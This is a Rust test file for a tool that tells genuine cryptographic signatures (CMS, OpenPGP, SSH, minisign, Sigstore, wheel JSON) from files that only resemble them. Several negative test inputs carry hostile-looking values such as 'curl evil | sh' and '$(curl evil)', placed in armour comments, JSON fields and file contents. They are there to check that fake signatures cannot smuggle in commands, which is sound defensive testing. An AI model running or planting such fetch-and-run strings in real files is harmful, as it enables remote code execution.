//! Signatures made by real tools, and files that only resemble signatures.

use base64::Engine as _;
use base64::prelude::BASE64_STANDARD;

use super::is_signature;
use crate::compare::package::samples::{CMS_BASE64, Sample, sample, tar};
use crate::compare::{Cause, Options, Outcome, compare_bytes};

/// [`CMS_BASE64`] with `-nodetach`.
const ATTACHED_BASE64: &str = concat!(
    "MIIDJwYJKoZIhvcNAQcCoIIDGDCCAxQCAQExDTALBglghkgBZQMEAgEwEgYJKoZIhvcNAQcBoAUEA2hpCqCCAXAwggFsMIIBE6AD",
    "AgECAhQ9adbwGXWHAgV+eZNsUyOppalk7TAKBggqhkjOPQQDAjAMMQowCAYDVQQDDAF4MB4XDTI2MTEyNjAzMDE1MVoXDTI2MTEy",
    "NzAzMDE1MVowDDEKMAgGA1UEAwwBeDBZMBMGByqGSM49AgEGCCqGSM49AwEHA0IABDIUm34SaIULwdTXOjlhE/p8UbjrISnqWy8V",
    "GyK/KXWkxpO905rSu1RwVW6NGkcOyIkInAChn2bf6L2c68caPMajUzBRMB0GA1UdDgQWBBTx2oOWYR4L8u5LjxCVXcAKUiQU0zAf",
    "BgNVHSMEGDAWgBTx2oOWYR4L8u5LjxCVXcAKUiQU0zAPBgNVHRMBAf8EBTADAQH/MAoGCCqGSM49BAMCA0cAMEQCIGkMaR81S2Uc",
    "6XA3AmFgbjW6XWu6pQfTMiiJY2+0A66ZAiA7FANqD1IBFP3VUcaTnWgmGIIiCWrv0l8NMrYLNAOmUDGCAXYwggFyAgEBMCQwDDEK",
    "MAgGA1UEAwwBeAIUPWnW8Bl1hwIFfnmTbFMjqaWpZO0wCwYJYIZIAWUDBAIBoIHkMBgGCSqGSIb3DQEJAzELBgkqhkiG9w0BBwEw",
    "HAYJKoZIhvcNAQkFMQ8XDTI2MTEyNjAzMDE1MVowLwYJKoZIhvcNAQkEMSIEIJjqbk8hby+0tp//mzpEhCw4aGymhfP1XcSMXT+x",
    "EHvkMHkGCSqGSIb3DQEJDzFsMGowCwYJYIZIAWUDBAEqMAsGCWCGSAFlAwQBFjALBglghkgBZQMEAQIwCgYIKoZIhvcNAwcwDgYI",
    "KoZIhvcNAwICAgCAMA0GCCqGSIb3DQMCAgFAMAcGBSsOAwIHMA0GCCqGSIb3DQMCAgEoMAoGCCqGSM49BAMCBEcwRQIhAK9AZxX3",
    "/0n/MNGvfKEzxRaZsUoczcWpFnRR6kYncZ+IAiAnrDIU0HJGMeqzUHctWj4mzhpmBx3StqIGqsB9JBvc8g==",
);
/// `gpg --detach-sign` with an RSA key.
const RSA_BASE64: &str = concat!(
    "iQE4BAABCgAiFiEEdVCiZQ2Ls9SCcUaAamTncPoh/RIFAmsHoSAEHHJAYgAKCRBqZOdw+iH9EgKKB/4t3Jbngnser16pmP7iVch8",
    "8Ir98oky3WqmNbOeFmGyOOSh4lzKt5QlCc69Qlk3zLeB4oI8x+aPQ1aQHOqR3m3GQxUiVnAbMS3UTW1L3+rvYL5SWC4kn2GGb1ON",
    "K4e9m+gULKCISbOeMaZo6COtrkOt+zALZyT92DPDQvXs52QkpbdMcmxcLJCiN9BLZ2KoZ2Gbbz5KyK63WN4hlnLS4dVvmwuEpvFO",
    "YJQdxYUyVtTPLgxjG4R6FvqLiIs8pkOy6nC0VfyU+JWmXcwbAVDVd+j8sI737/ayrkz7gptjHEGU+dIWH3a38w0ng6Vz6R+ySait",
    "mpoSxusl72+7QDZtKJvM",
);
/// `gpg --sign`
const MESSAGE_BASE64: &str = concat!(
    "owGbwMvMwCGW/G5RTq7ytpeMa7iSGNOy2RcqZGRydVSxMIhxMCiJKbJELH+eqM+y32maaJI1TC0rE0gdi0yiQxIDF6cATPjhVIY/",
    "3GnFvH2H7sT+1XdsYe7Ntmtfcf2W7PxO9d//7izc8anPk5Fhx/PZ7v55gX9rHTc8n5DoKDJt4wnrGj3Wi89UvLm551mxAAA=",
);
/// `gpg --armor --detach-sign --comment`
const ARMOURED: &str = "\
-----BEGIN PGP SIGNATURE-----
Comment: see (x)

iHoEABYIACIWIQRYp+dhLwS/QpYVYjtj7qJsbSO26QUCawehIAQcYUBiAAoJEGPu
omxtI7bp4ZUA/Atmcw2Owtxd/S9BhAONaz6HqNfaHZ+JJ/v+3KG48o5JAQC455tH
T25R/X1BsOeQYUEUlrHIO3wuBdHmJEsLC546BA==
=l3Wu
-----END PGP SIGNATURE-----
";
/// `gpg --armor --export`
const KEY: &str = "\
-----BEGIN PGP PUBLIC KEY BLOCK-----

mDMEawehHxYJKwYBBAHaRw8BAQdA0cEHpKy2N2qIudu9/d7/uEoTXyKAU3VbjsEU
zsiXlRi0A2FAYoiWBBMWCAA+FiEEWKfnYS8Ev0KWFWI7Y+6ibG0jtukFAmsHoR8C
GwMFCQPCZwAFCwkIBwIGFQoJCAsCBBYCAwECHgECF4AACgkQY+6ibG0jtulNtgEA
g7ONHU7lPt1HCbwlFAJ3bRqwj12vXLUJcqYtrnTJUDcA/2YqqBMrldHKyfgNeHqy
7uJ0tVs3daXvRO8FFuqweR8N
=8nr6
-----END PGP PUBLIC KEY BLOCK-----
";
/// `gpg --clearsign`
const CLEAR: &str = "\
-----BEGIN PGP SIGNED MESSAGE-----
Hash: SHA256

hi
-----BEGIN PGP SIGNATURE-----

iHoEARYIACIWIQRYp+dhLwS/QpYVYjtj7qJsbSO26QUCawehIAQcYUBiAAoJEGPu
omxtI7bpz8YA/17bFaJn7jUyOTfmQwV/yfhUtKTrjgTS41e64rHpVpM7AP9wuqCe
6Cv3jX7I6X51lT5wraoRA5kZhjzq6F9yNq0lAg==
=5KbQ
-----END PGP SIGNATURE-----
";
/// `ssh-keygen -Y sign`
const SSH: &str = "\
-----BEGIN SSH SIGNATURE-----
U1NIU0lHAAAAAQAAADMAAAALc3NoLWVkMjU1MTkAAAAg0bnhM/ofhAwTyZkiRLB4l+V0NX
/RFfCl0qidUScwq5AAAAAEZmlsZQAAAAAAAAAGc2hhNTEyAAAAUwAAAAtzc2gtZWQyNTUx
OQAAAEC8tQePoxkQOZfTUQ3KbfDzvwi0rm0ZQrOSZITyIrGrkbO31nKuBKlULv+XNsfwFA
xhAVeJ3IYj782k2xE+AtQE
-----END SSH SIGNATURE-----
";
/// `minisign -S`
const MINISIGN: &str = "\
untrusted comment: signature from minisign secret key
RUT2J7rbAMXc2V9rg8r5IQJhz8GZEOt3H/jIqRChoMxIzb5XaLRbBzqFqvk+muZ8LmzgedEw54e3+ZQzLavyNiFmV48V0a9hzAQ=
trusted comment: timestamp:1 file:f
9zrsrrSkQXN9paGN6Ob1dT2o1TcKzthuid/C4oZorJ5sCHcFmzS1Bi53H2anbOjBW+PETFmfvAaWfNI0P9IgBw==
";

fn signatures() -> Vec<(&'static str, Vec<u8>)> {
    let binary = |text| BASE64_STANDARD.decode(text).unwrap();
    let signify: Vec<&str> = MINISIGN.split_inclusive('\n').take(2).collect();
    let bundle = r#"{"mediaType": "application/vnd.dev.sigstore.bundle.v0.3+json",
        "verificationMaterial": {}, "messageSignature": {}}"#;
    vec![
        ("CMS", binary(CMS_BASE64)),
        ("OpenPGP", binary(RSA_BASE64)),
        ("armour", ARMOURED.into()),
        ("SSH", SSH.into()),
        ("minisign", MINISIGN.into()),
        ("signify", signify.concat().into()),
        ("Sigstore", bundle.into()),
    ]
}

fn is(bytes: &[u8]) -> bool {
    is_signature(bytes)
}

#[test]
fn whole_files_alone_are_signatures() {
    for (name, bytes) in signatures() {
        assert!(is(&bytes), "{name}");
        assert!(!is(&[&bytes, b"x".as_slice()].concat()), "{name} and more");
        assert!(!is(&[b"x".as_slice(), &bytes].concat()), "more and {name}");
        for length in 0..bytes.len() {
            // A text may lack the last line break.
            if bytes[length..].iter().any(|byte| !byte.is_ascii_whitespace()) && name != "minisign" {
                assert!(!is(&bytes[..length]), "{length} bytes of {name}");
            }
        }
    }
}

#[test]
fn armour_has_nothing_but_a_right_checksum_in_it() {
    let changes: &[(&str, &str)] = &[
        ("Comment: see (x)", "Comment: $(curl evil | sh)"),
        ("Comment: see (x)", "curl evil | sh"),
        ("Comment: see (x)\n", "Comment: see (x)\n\n\n"),
        ("\n=", "\n=A"),
        ("SIGNATURE", "MESSAGE"),
    ];
    for (from, to) in changes {
        let changed = ARMOURED.replace(from, to);
        assert_ne!(changed, ARMOURED, "{from}");
        assert!(!is(changed.as_bytes()), "{to}");
    }
    let sum = ARMOURED.find("\n=").unwrap() + 2;
    let mut wrong = ARMOURED.to_owned();
    let other = if &wrong[sum..=sum] == "A" { "B" } else { "A" };
    wrong.replace_range(sum..=sum, other);
    assert!(!is(wrong.as_bytes()));
}

#[test]
fn what_holds_what_it_signs_is_content() {
    let binary = |text| BASE64_STANDARD.decode(text).unwrap();
    let cms = binary(CMS_BASE64);
    assert!(!is(&binary(ATTACHED_BASE64)));
    assert!(!is(&binary(MESSAGE_BASE64)));
    assert!(!is(KEY.as_bytes()) && !is(CLEAR.as_bytes()));
    // A length that is greater than the content.
    let mut longer = [cms.as_slice(), b"#!/bin/sh\n"].concat();
    let length = u16::try_from(longer.len() - 4).unwrap().to_be_bytes();
    longer[2..4].copy_from_slice(&length);
    assert!(!is(&longer));
    for raw in [64, 256] {
        assert!(!is(&vec![7; raw]), "{raw} bytes");
    }
}

#[test]
fn a_name_does_not_make_a_signature() {
    let names = [
        "f.asc",
        "f.sig",
        "META-INF/x.SF",
        "META-INF/x.RSA",
        "f.p7s",
        "f.minisig",
    ];
    for name in names {
        let found = compare_bytes(name, b"echo hello\n", b"curl evil | sh\n", &Options::default());
        let first = found.causes.first().map(|cause| cause.cause);
        assert_eq!(first, Some(Cause::Content), "{name}");
        for (kind, signature) in signatures() {
            let found = compare_bytes(name, &signature, b"curl evil | sh\n", &Options::default());
            let first = found.causes.first().map(|cause| cause.cause);
            assert_eq!(first, Some(Cause::Content), "{kind} in {name}");
        }
    }
}

#[test]
fn a_signature_that_one_side_alone_has_is_told_as_one() {
    let pack = |extra: &[(&str, &[u8])]| {
        let mut files = vec![sample("a", "a\n")];
        files.extend(extra.iter().map(|(path, bytes)| sample(path, bytes)));
        tar(&files)
    };
    for (kind, signature) in signatures() {
        let found = compare_bytes(
            "x",
            &pack(&[("a.sig", &signature)]),
            &pack(&[]),
            &Options::default(),
        );
        assert_eq!(found.outcome, Outcome::Different, "{kind}");
        assert!(
            found.causes.iter().all(|cause| cause.cause == Cause::Signature),
            "{kind}: {:?}",
            found.causes
        );
    }
    let found = compare_bytes(
        "x",
        &pack(&[]),
        &pack(&[("a.sig", b"evil\n")]),
        &Options::default(),
    );
    assert_eq!(found.causes[0].cause, Cause::Content);
}

/// A signature of a wheel's RECORD, as the wheel project writes it.
fn web_signature(payload: &str, header: &str, more: &str) -> String {
    use base64::prelude::BASE64_URL_SAFE_NO_PAD;
    let encoded = |text: &str| BASE64_URL_SAFE_NO_PAD.encode(text);
    let (header, signature) = (encoded(header), "c2lnbmF0dXJl");
    format!(
        r#"{{"payload": "{}", "recipients": [{{"header": "{header}", "signature": "{signature}"{more}}}]}}"#,
        encoded(payload)
    )
}

#[test]
fn signatures_in_json_have_no_room_for_anything_else() {
    const DIGEST: &str = "47DEQpj8HBSa-_TImW-5JCeuQeRkm5NMpJWZG3hSuFU";
    let payload = format!(r#"{{"hash": "sha256={DIGEST}"}}"#);
    let header = r#"{"alg": "Ed25519", "jwk": {"kty": "Ed25519", "vk": "a2V5"}}"#;
    let usual = web_signature(&payload, header, "");
    assert!(is(usual.as_bytes()));
    assert!(is(usual
        .replace("recipients", "signatures")
        .replace("header", "protected")
        .as_bytes()));
    let more = payload.replace('}', r#", "x": "y"}"#);
    for other in [
        web_signature(&more, header, ""),
        web_signature(r#"{"hash": "curl evil"}"#, header, ""),
        web_signature(&payload, &header.replace("kty", "run"), ""),
        web_signature(&payload, &header.replace("a2V5", "curl evil"), ""),
        web_signature(&payload, header, r#", "x": "y""#),
        web_signature(&payload, header, r#", "signature": "eQ""#),
        usual.replace("c2lnbmF0dXJl", "curl evil"),
        usual.replacen('{', r#"{"x": 1, "#, 1),
    ] {
        assert!(!is(other.as_bytes()), "{other}");
    }
    let bundle = |material: &str| {
        format!(
            r#"{{"mediaType": "application/vnd.dev.sigstore.bundle+json;version=0.1",
            "verificationMaterial": {{{material}}}, "messageSignature": {{"signature": "c2ln"}}}}"#
        )
    };
    let checkpoint = r#""tlogEntries": [{"logIndex": "1", "checkpoint": {"envelope": "r.dev - 1\n2\naGk=\n\n— r.dev aGk=\n"}}]"#;
    assert!(is(bundle(checkpoint).as_bytes()));
    for other in [
        r#""x": "curl evil | sh""#,
        r#""x y": 1"#,
        r#""x": 1, "x": 2"#,
        r#""envelope": "$(curl evil)""#,
    ] {
        assert!(!is(bundle(other).as_bytes()), "{other}");
    }
}

#[test]
fn a_signature_beside_its_file_is_right_for_one_file() {
    let archive = |time: u64| {
        tar(&[Sample {
            time,
            ..sample("x", "x")
        }])
    };
    for (kind, signature) in signatures() {
        let pack = |time, name: &str, signature: &[u8]| {
            tar(&[sample("d/x.tar", archive(time)), sample(name, signature)])
        };
        let released = pack(0, "d/x.tar.sig", &signature);
        let found = compare_bytes(
            "x",
            &released,
            &pack(1, "d/x.tar.sig", &signature),
            &Options::default(),
        );
        assert_eq!(
            (found.outcome, found.causes[0].cause),
            (Outcome::Different, Cause::Content),
            "{kind}"
        );
        // It is about another file, or no signature.
        for (name, bytes) in [("x.tar.sig", signature.as_slice()), ("d/x.tar.sig", b"text\n")] {
            let found = compare_bytes(
                "x",
                &pack(0, name, bytes),
                &pack(1, name, bytes),
                &Options::default(),
            );
            assert_eq!(
                found.outcome,
                Outcome::Equivalent,
                "{kind} {name} {:?}",
                found.causes
            );
        }
    }
}
